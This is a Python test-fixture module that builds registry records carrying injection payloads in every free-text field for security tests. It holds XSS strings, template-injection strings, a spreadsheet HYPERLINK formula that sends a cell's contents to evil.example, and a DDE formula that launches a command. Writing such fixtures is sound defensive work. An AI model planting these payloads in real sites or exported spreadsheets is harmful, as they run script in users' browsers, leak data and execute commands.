"""The hostile texts of the injection tests, and initiatives carrying them in every free-text
field (tests/security/test_injection.py and tests/e2e/test_injection_browser.py)."""

from registry.models import Status
from tests.factories import InitiativeFactory

SCRIPT = "<script>alert(1)</script>"
IMG = '"><img src=x onerror=alert(1)>'
JS_URL = "javascript:alert(1)"
TEMPLATE_VARIABLE = "{{ 7*7 }}"
TEMPLATE_TAG = "{% debug %}"
HYPERLINK_FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"x")'
DDE_FORMULA = "=cmd|' /C calc'!A0"
CORPUS = [SCRIPT, IMG, JS_URL, TEMPLATE_VARIABLE, TEMPLATE_TAG, HYPERLINK_FORMULA, DDE_FORMULA]
FORMULAS = [HYPERLINK_FORMULA, DDE_FORMULA]
TEXT_FIELDS = ["name", "summary", "description", "address", "opening_hours"]
# A website a URL validator lets through, that closes the attribute if written unescaped.
QUOTED_URL = 'https://evil.example/"><svg/onload=alert(1)>'
# What a spreadsheet reads as a formula (OWASP "CSV injection").
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def make_injected(*, owner=None, status=Status.VALIDATED, suffix=""):
    """One initiative per payload, the payload in every free-text field."""
    initiatives = []
    for index, payload in enumerate(CORPUS):
        initiative = InitiativeFactory(
            slug=f"injection-{index}" + ("-" + status if suffix else ""),
            status=status,
            website=JS_URL if index % 2 == 0 else QUOTED_URL,
            **{field: payload + suffix for field in TEXT_FIELDS},
            owners=[owner] if owner else [],
        )
        initiatives.append(initiative)
    return initiatives
